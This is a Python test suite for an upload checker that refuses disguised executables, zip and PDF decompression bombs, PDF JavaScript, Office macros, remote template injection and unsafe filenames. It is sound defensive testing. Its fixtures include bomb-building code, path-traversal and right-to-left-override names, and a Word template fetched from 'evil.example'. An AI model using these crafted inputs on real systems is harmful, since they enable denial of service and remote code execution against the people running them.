"""What may be uploaded, anywhere: the type by content and name together, the
size limit, zip bombs, macros, active PDF content, and filenames made safe."""

import io
import re
import zipfile
import zlib

import pikepdf
import pytest

from files.checks import (
    PDF_MAX_INFLATED_BYTES,
    FileRefused,
    check_file,
    display_name,
    download_name,
    served_type,
)
from tests.factories.documents import JPEG, PDF, PNG, office, pdf, upload

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><head><script>alert(1)</script></head></html>"


class TestAcceptedTypes:
    @pytest.mark.parametrize(
        ("name", "content", "served_as"),
        [
            ("minutes.pdf", PDF, "application/pdf"),
            ("plan.docx", office("docx"), "application/vnd.openxmlformats-"
             "officedocument.wordprocessingml.document"),
            ("actions.xlsx", office("xlsx"), "application/vnd.openxmlformats-"
             "officedocument.spreadsheetml.sheet"),
            ("letter.odt", office("odt"), "application/vnd.oasis.opendocument.text"),
            ("photo.png", PNG, "image/png"),
            ("photo.JPG", JPEG, "image/jpeg"),
            ("photo.jpeg", JPEG, "image/jpeg"),
            ("notes.txt", b"Visit on Monday.\n", "text/plain"),
            ("list.csv", b"date,what\n2026-11-01,visit\n", "text/csv"),
        ],
    )  # fmt: skip
    def test_each_accepted_type_passes_and_is_served_as_its_own_type(
        self, name, content, served_as
    ):
        checked = check_file(upload(name, content))
        assert checked.content_type == served_as
        assert checked.display_name == name


class TestRefusedTypes:
    @pytest.mark.parametrize(
        ("name", "content", "message"),
        [
            ("report.pdf", EXE, "report.pdf is not really a PDF file"),
            ("report.docx", ELF, "report.docx is not really a DOCX file"),
            ("report.pdf", HTML, "report.pdf is not really a PDF file"),
            ("notes.txt", HTML, "notes.txt is not really a TXT file"),
            ("photo.png", PDF, "photo.png is not really a PNG file"),
            ("tool.exe", EXE, "tool.exe must be a PDF, Word (DOCX)"),
            ("page.html", HTML, "page.html must be a PDF"),
            ("script.pdf.js", b"alert(1)", "script.pdf.js must be a PDF"),
            ("noextension", PDF, "noextension must be a PDF"),
            ("empty.pdf", b"", "empty.pdf is empty"),
        ],
    )
    def test_refused_with_a_message_naming_the_file(self, name, content, message):
        with pytest.raises(
            FileRefused, match=message.replace("(", r"\(").replace(")", r"\)")
        ):
            check_file(upload(name, content))

    def test_a_renamed_zip_is_not_a_word_document(self):
        fake = io.BytesIO()
        with zipfile.ZipFile(fake, "w") as archive:
            archive.writestr("payload.exe", "MZ")
        with pytest.raises(FileRefused, match="is not a real DOCX"):
            check_file(upload("letter.docx", fake.getvalue()))

    def test_a_damaged_archive_is_refused(self):
        with pytest.raises(FileRefused, match="is damaged"):
            check_file(upload("letter.docx", office("docx")[:-40]))

    def test_text_with_nul_bytes_is_not_text(self):
        with pytest.raises(FileRefused):
            check_file(upload("notes.txt", b"hello\x00\x00\x00world\n" * 50))


class TestZipBombs:
    def test_an_archive_that_unpacks_out_of_all_proportion_is_refused(self):
        # 300 MB of zeros compresses to about 300 KB: a ratio of ~1000 to 1.
        bomb = io.BytesIO()
        with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("word/document.xml", "<w:document/>")
            with archive.open("word/media/filler.bin", "w", force_zip64=True) as member:
                block = b"\x00" * (1024 * 1024)
                for _ in range(300):
                    member.write(block)
        assert bomb.tell() < 2 * 1024 * 1024
        with pytest.raises(FileRefused, match="unpacks to far more than its size"):
            check_file(upload("bomb.docx", bomb.getvalue()))

    def test_an_archive_with_thousands_of_members_is_refused(self):
        many = {f"word/part{i}.xml": "" for i in range(2100)}
        with pytest.raises(FileRefused, match="too many parts"):
            check_file(upload("many.docx", office("docx", many)))


class TestSizeLimit:
    def test_a_file_over_the_limit_is_refused(self, settings):
        settings.DOCUMENTS_MAX_UPLOAD_BYTES = 1024
        with pytest.raises(FileRefused, match="big.pdf must be smaller than 1.0"):
            check_file(upload("big.pdf", PDF + b"0" * 2000))


class TestDisplayNames:
    @pytest.mark.parametrize(
        ("raw", "shown"),
        [
            ("../../etc/passwd.pdf", "passwd.pdf"),
            ("..\\..\\Windows\\win.ini.txt", "win.ini.txt"),
            ("C:\\Users\\pat\\risk assessment.pdf", "risk assessment.pdf"),
            ("report\x00.pdf", "report.pdf"),
            ("re\nport\r\t.pdf", "report.pdf"),
            ("\u202eevil\u202c.pdf", "evil.pdf"),  # right-to-left override
            ("...hidden.pdf", "hidden.pdf"),
            ("", "file"),
            ("/", "file"),
            ("Cafe\u0301.pdf", "Caf\u00e9.pdf"),  # composed, as people type it
        ],
    )
    def test_folders_and_control_characters_are_removed(self, raw, shown):
        assert display_name(raw) == shown

    def test_long_names_keep_their_extension(self):
        name = display_name("a" * 400 + ".pdf")
        assert len(name) == 150
        assert name.endswith(".pdf")


class TestActivePdfContent:
    """PDFs are parsed (pikepdf), so what is hidden from a search of the bytes
    is still found. tests/documents/test_hostile_uploads.py has the corpus."""

    def test_a_plain_pdf_that_opens_at_a_page_is_accepted(self):
        def open_at_first_page(document):
            first = document.pages[0].obj
            document.Root.OpenAction = pikepdf.Array([first, pikepdf.Name.Fit])

        checked = check_file(upload("plain.pdf", pdf(open_at_first_page)))
        assert checked.content_type == "application/pdf"

    def test_a_pdf_with_a_link_to_a_web_page_is_accepted(self):
        def link(document):
            document.pages[0].obj.Annots = pikepdf.Array(
                [
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.Link,
                        Rect=[0, 0, 10, 10],
                        A=pikepdf.Dictionary(
                            S=pikepdf.Name.URI,
                            URI=pikepdf.String("https://www.gov.uk/"),
                        ),
                    )
                ]
            )

        assert check_file(upload("links.pdf", pdf(link)))

    def test_a_document_level_script_in_the_names_tree_is_refused(self):
        def named_script(document):
            action = pikepdf.Dictionary(
                S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
            )
            document.Root.Names = pikepdf.Dictionary(
                JavaScript=pikepdf.Dictionary(
                    Names=pikepdf.Array([pikepdf.String("init"), action])
                )
            )

        with pytest.raises(FileRefused, match="a.pdf is a PDF with active content"):
            check_file(upload("a.pdf", pdf(named_script, object_streams=True)))

    def test_a_pdf_with_a_password_is_refused(self):
        buffer = io.BytesIO()
        with pikepdf.open(io.BytesIO(PDF)) as document:
            document.save(
                buffer,
                encryption=pikepdf.Encryption(user="secret", owner="also-secret"),
            )
        with pytest.raises(FileRefused, match="is protected with a password"):
            check_file(upload("locked.pdf", buffer.getvalue()))

    def test_an_object_stream_that_inflates_out_of_all_proportion_is_refused(self):
        # qpdf inflates object streams to parse them: without the limit this
        # file of about 120 KB took 120 MB (a 2 MB one, 2 GB and 28 s).
        assert pikepdf.settings.get_qpdf_limits()["flate_max_memory"] == (
            PDF_MAX_INFLATED_BYTES
        )
        raw = pdf(object_streams=True)
        match = re.search(rb"<<[^>]*/Type /ObjStm[^>]*>>\s*stream\r?\n", raw)
        length = int(re.search(rb"/Length (\d+)", match.group(0)).group(1))
        objects = zlib.decompress(raw[match.end() : match.end() + length])
        deflate = zlib.compressobj(9)
        bomb = deflate.compress(objects)
        for _ in range(PDF_MAX_INFLATED_BYTES // (1024 * 1024) + 20):
            bomb += deflate.compress(b" " * (1024 * 1024))
        bomb += deflate.flush()
        head = match.group(0).replace(b"/Length %d" % length, b"/Length %d" % len(bomb))
        raw = raw[: match.start()] + head + bomb + raw[match.end() + length :]
        with pytest.raises(FileRefused, match="is damaged and cannot be opened"):
            check_file(upload("bomb.pdf", raw))


class TestMacrosAndRemoteContent:
    MACROS = "contains macros, which can run code"

    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("budget.xlsm", office("xlsx", {"xl/vbaProject.bin": "VBA"})),
            ("budget.xlsx", office("xlsx", {"xl/vbaProject.bin": "VBA"})),
            ("letter.docx", office("docx", {"word/activeX/activeX1.xml": "<ax/>"})),
            ("letter.odt", office("odt", {"Basic/Standard/Module1.xml": "<m/>"})),
            ("slides.pptm", PDF),
        ],
    )
    def test_macro_enabled_files_are_refused_by_name_or_content(self, name, content):
        with pytest.raises(FileRefused, match=f"{re.escape(name)} {self.MACROS}"):
            check_file(upload(name, content))

    def test_a_word_file_that_fetches_its_template_from_the_internet_is_refused(self):
        # Remote template injection: Word fetches and runs a .dotm when opened.
        rels = (
            '<Relationships><Relationship Id="rId1" Type="http://schemas.'
            "openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
            '" Target="https://evil.example/t.dotm" TargetMode="External"/>'
            "</Relationships>"
        )
        content = office("docx", {"word/_rels/settings.xml.rels": rels})
        with pytest.raises(FileRefused, match="loads content from the internet"):
            check_file(upload("letter.docx", content))

    def test_a_word_file_with_links_to_web_pages_is_accepted(self):
        rels = (
            '<Relationships><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            'Target="https://www.gov.uk/" TargetMode="External"/></Relationships>'
        )
        content = office("docx", {"word/_rels/document.xml.rels": rels})
        assert check_file(upload("letter.docx", content))


class TestArchivesThatLie:
    def test_a_member_that_unpacks_to_more_than_it_says_is_refused(self):
        # The headers claim 1 KB, so the size checks pass; reading the member
        # finds 20 MB whose checksum does not match.
        real = 20 * 1024 * 1024
        content = bytearray(office("docx", {"word/media/image1.png": bytes(real)}))
        claimed = (1024).to_bytes(4, "little")
        with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
            member = archive.getinfo("word/media/image1.png")
        content[member.header_offset + 22 : member.header_offset + 26] = claimed
        central = content.rfind(b"PK\x01\x02")  # the last member's entry
        content[central + 24 : central + 28] = claimed
        with pytest.raises(FileRefused, match="is damaged and cannot be opened"):
            check_file(upload("letter.docx", bytes(content)))


class TestDownloadNames:
    @pytest.mark.parametrize(
        ("name", "content_type", "served"),
        [
            ("risk.pdf", "application/pdf", "risk.pdf"),
            ("photo.jpeg", "image/jpeg", "photo.jpeg"),
            ("Photo.JPG", "image/jpeg", "Photo.JPG"),
            # Stored before attachments were checked by content.
            ("update.hta", "application/pdf", "update.pdf"),
            ("x.html", "application/pdf", "x.pdf"),
            ("fdp.exe", "application/pdf", "fdp.pdf"),
            ("notes", "text/plain", "notes.txt"),
            ("../../etc/passwd", "image/png", "passwd.png"),
            ("\u202eexe.pdf", "application/pdf", "exe.pdf"),
            ("old.doc", "application/msword", "old.bin"),
        ],
    )
    def test_the_extension_always_matches_the_type_served(
        self, name, content_type, served
    ):
        assert download_name(name, content_type) == served

    def test_a_type_no_longer_accepted_is_served_as_unknown_bytes(self):
        assert served_type("application/msword") == "application/octet-stream"
        assert served_type("application/pdf") == "application/pdf"
